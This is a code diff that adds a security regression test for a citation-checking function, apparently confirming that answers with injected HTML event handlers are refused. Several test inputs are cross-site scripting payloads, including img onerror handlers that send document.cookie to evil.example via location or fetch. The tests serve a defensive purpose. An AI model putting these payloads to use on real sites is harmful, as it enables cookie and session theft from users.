@@ -131,3 +131,31 @@ describe('verifyAnswer on URLs a frame document or an animation holds (security 
     ]);
   });
 });
+
+describe('verifyAnswer on event handlers (security regression)', () => {
+  it("refuses a handler's code as a javascript: URL no passage links, unless a cited passage holds it", () => {
+    expect(
+      outcome(
+        'Water boils at 100 degrees Celsius <img src="https://who.example/water" onerror="location=`//evil.example/`+document.cookie"> [1].',
+      ),
+    ).toEqual([
+      'unknown_identifier: Water boils at 100 degrees Celsius <img src="https://who.example/water" onerror="location=`//evil.example/`+document.cookie"> [1].',
+    ]);
+    expect(outcome('Water boils at 100 degrees Celsius <svg onload=alert(1)> [1].')).toEqual([
+      'unknown_identifier: Water boils at 100 degrees Celsius <svg onload=alert(1)> [1].',
+    ]);
+    // Cut by a line break: both parts refused.
+    expect(
+      outcome(
+        "Water boils at 100 degrees Celsius [1]. <img src=https://who.example/water onerror='fetch(`//evil.example/`.\nconcat(document.cookie))'> It boils [1].",
+      ),
+    ).toEqual([
+      "unknown_identifier: Water boils at 100 degrees Celsius [1]. <img src=https://who.example/water onerror='fetch(`//evil.example/`.",
+      "unknown_identifier: concat(document.cookie))'> It boils [1].",
+    ]);
+    const docs = [source('Add a button: <button onclick="save()">Save</button> saves the form.', 'docs')];
+    expect(
+      verdictLines('A button saves the form: `<button onclick="save()">Save</button>` [1].', docs),
+    ).toEqual(['A button saves the form: `<button onclick="save()">Save</button>` [1]. → 1']);
+  });
+});
